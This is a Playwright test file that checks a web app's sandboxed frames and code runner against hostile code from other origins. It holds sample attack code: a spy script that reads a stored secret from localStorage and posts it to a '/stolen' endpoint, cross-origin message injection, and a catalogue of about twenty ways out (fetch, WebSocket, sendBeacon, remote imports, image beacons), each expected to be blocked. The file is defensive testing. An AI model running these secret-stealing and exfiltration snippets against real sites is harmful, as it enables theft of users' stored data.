import { readdirSync } from 'node:fs'
import { expect, type Page, test } from '@playwright/test'
import { close } from '../support/mirror'
import { stage } from './page'
import { type Host, serveOpen, serveStatic } from './static-host'

/** The page on a host without headers, and another site that means harm. */
let host: Host
let other: Host
test.beforeEach(async () => {
  host = await serveStatic()
  other = await serveOpen('<!doctype html><title>Another site</title><body>')
})
test.afterEach(() => {
  close(host.server)
  close(other.server)
})

const frameAddress = () => {
  const file = readdirSync('dist/app/assets').find(name => /^frame-.*\.html$/.test(name))
  return `${host.url}/assets/${file}`
}

/** What an attacker would have run: it tells where it runs, and what it can read there. */
const SPY = `(async () => {
  let kept
  try { kept = typeof localStorage === 'object' && localStorage.secret } catch (error) { kept = error.name }
  const sent = await fetch('ORIGIN/stolen').then(() => 'sent', () => 'refused')
  const found = JSON.stringify({ spy: true, origin: self.origin, kept, sent })
  postMessage(found)
  self.onmessage = ({ ports: [port] }) => port && port.postMessage(found)
})()`

interface Attack {
  readonly target: 'frame' | 'window' | 'sandboxed frame'
  readonly address: string
  /** Code. */
  readonly spy: string
}

/** Sends to a window all that any frame of ours might take, and gathers what comes back. */
function attack({ target, address, spy }: Attack): Promise<string[]> {
  return new Promise(resolve => {
    const heard: string[] = []
    const hear = ({ data, ports }: MessageEvent) => {
      heard.push(JSON.stringify(data))
      for (const port of ports) {
        port.onmessage = hear
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = hear
        port.postMessage(spy, [port2])
      }
    }
    window.addEventListener('message', hear)
    let there: Window | null = null
    if (target === 'window') there = window.open(address)
    else {
      const frame = document.createElement('iframe')
      if (target === 'sandboxed frame') frame.sandbox.add('allow-scripts')
      frame.src = address
      document.body.append(frame)
      there = frame.contentWindow
    }
    const messages = [spy, { code: `() => { ${spy} }`, args: [] }, { script: spy }, 'the-word']
    const again = setInterval(() => {
      for (const message of messages) {
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = hear
        there?.postMessage(message, '*', [port2])
      }
    }, 100)
    setTimeout(() => {
      clearInterval(again)
      resolve(heard)
    }, 4000)
  })
}

test('another site gets no code into the page’s origin: as frame, as window, from the same site or another', async ({
  page,
}) => {
  await page.goto(`${host.url}/?engine=wasm&network=resnet18`)
  await page.evaluate(() => localStorage.setItem('secret', 'mine'))
  const spy = SPY.replace('ORIGIN', host.url)
  // localhost is the same site as the page, 127.0.0.1 another.
  for (const from of [other.url, other.url.replace('localhost', '127.0.0.1')])
    for (const target of ['frame', 'window'] as const) {
      await page.goto(from)
      const heard = await page.evaluate(attack, { target, address: `${frameAddress()}#the-word`, spy })
      expect(heard, `${target} from ${from}`).toEqual([])
    }
  expect(host.asked.filter(asked => asked.includes('stolen'))).toEqual([])
})

test('a frame that another site sandboxes itself runs its code in nobody’s origin, and reaches nothing', async ({
  page,
}) => {
  await page.goto(`${host.url}/`)
  await page.evaluate(() => localStorage.setItem('secret', 'mine'))
  await page.goto(other.url)
  const heard = await page.evaluate(attack, {
    target: 'sandboxed frame',
    address: `${frameAddress()}#the-word`,
    spy: SPY.replace('ORIGIN', host.url),
  } as const)
  const spies = heard.filter(text => text.includes('spy'))
  for (const text of spies) {
    expect(text).toContain('\\"origin\\":\\"null\\"')
    expect(text).not.toContain('mine')
    expect(text).toContain('refused')
  }
  expect(heard[0]).toBe('"the-word"')
  expect(host.asked.filter(asked => asked.includes('stolen'))).toEqual([])
})

test('while a hook runs, another site that opened the page gets nothing in and nothing out', async ({ page }) => {
  await page.goto(other.url)
  const opened = page.waitForEvent('popup')
  await page.evaluate(address => {
    const there = window.open(address)
    const heard: unknown[] = []
    Object.assign(window, { heard })
    window.addEventListener('message', ({ data }) => heard.push(data))
    setInterval(() => {
      for (const target of [there, ...Array.from({ length: there?.length ?? 0 }, (_, i) => there?.[i])]) {
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = ({ data }) => heard.push(data)
        target?.postMessage('() => { throw new Error("theirs") }', '*', [port2])
      }
    }, 5)
  }, `${host.url}/?engine=wasm&network=resnet18`)
  const popup = await opened
  await expect(stage(popup)).toContainText('Grad-CAM · layer4')
  await popup.getByRole('tab', { name: 'Intervene' }).click()
  const panel = popup.getByRole('tabpanel', { name: /Intervene/ })
  await panel.getByRole('button', { name: / Change$/ }).click()
  await popup.getByRole('option', { name: 'JavaScript' }).click()
  await panel.getByRole('textbox').last().fill('activation => { throw new Error("ours") }')
  await panel.getByRole('button', { name: 'Run' }).click()
  await expect(panel.getByRole('alert')).toContainText('Error: ours')
  expect(await page.evaluate('heard')).toEqual([])
})

test('code in Learn reaches no host, this one included, no store, no channel and no page', async ({ page }) => {
  await page.addInitScript(() => {
    const heard: unknown[] = []
    Object.assign(window, { heard })
    new BroadcastChannel('out').onmessage = ({ data }) => heard.push(data)
  })
  await page.goto(`${host.url}/#learn/1`)
  const output = page.getByRole('region', { name: 'Output' })
  await expect(output).toContainText('dy/dw')
  const before = [host.asked.length, other.asked.length]
  for (const target of [host.url, other.url]) {
    await typeCode(page, reaching(target))
    await expect(output).toContainText('all tried')
    const found = await output.innerText()
    expect(found).toContain('origin')
    expect(found).not.toContain('reached')
    expect(found.match(/blocked/g)).toHaveLength(21)
  }
  expect([host.asked.length, other.asked.length]).toEqual(before)
  expect(await page.evaluate('heard')).toEqual([])
})

async function typeCode(page: Page, code: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Code' }).fill(code)
  await page.keyboard.press('Control+Enter')
}

/** A lesson that tries every way out. */
const reaching = (there: string): string => `
const by = (make, ...events) => new Promise((resolve, reject) => {
  const it = make()
  for (const name of events) it[name] = resolve
  it.onerror = reject
})
const blob = text => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
const telling = text => by(() => new Worker(blob(text + ".then(() => postMessage('sent'), () => { throw new Error('no') })")), 'onmessage')
const ways = {
  fetch: () => fetch('${there}/out'),
  'fetch without an answer': () => fetch('${there}/out', { mode: 'no-cors', keepalive: true }),
  'fetch of a blob': () => fetch(blob('1')),
  XMLHttpRequest: () => by(() => {
    const request = new XMLHttpRequest()
    request.open('GET', '${there}/out')
    setTimeout(() => request.send())
    return request
  }, 'onload'),
  WebSocket: () => by(() => new WebSocket('${there.replace('http', 'ws')}/out'), 'onopen'),
  EventSource: () => by(() => new EventSource('${there}/out'), 'onopen'),
  WebTransport: () => new WebTransport('${there.replace('http', 'https')}/out').ready,
  importScripts: () => importScripts('${there}/out.js'),
  import: () => import('${there}/out.js'),
  'import of data': () => import('data:text/javascript,1'),
  Worker: () => by(() => new Worker('${there}/out.js'), 'onmessage'),
  'Worker that fetches': () => telling("fetch('${there}/out')"),
  'Worker that imports': () => telling("import('${there}/out.js')"),
  SharedWorker: () => by(() => new SharedWorker('${there}/out.js').port, 'onmessage'),
  indexedDB: () => by(() => indexedDB.open('x'), 'onsuccess'),
  caches: () => caches.open('x'),
  files: () => navigator.storage.getDirectory(),
  localStorage: () => localStorage.secret,
  sendBeacon: () => { if (!navigator.sendBeacon('${there}/out', '1')) throw new Error('no') },
  WebRTC: () => new RTCPeerConnection(),
  Image: () => by(() => Object.assign(new Image(), { src: '${there}/out.png' }), 'onload'),
}
new BroadcastChannel('out').postMessage('out')
show('origin', self.origin)
await Promise.all(Object.entries(ways).map(async ([name, attempt]) => {
  const late = new Promise((_, reject) => setTimeout(reject, 2000))
  try {
    await Promise.race([attempt(), late])
    show(name, 'reached')
  } catch {
    show(name, 'blocked')
  }
}))
show('all tried')`
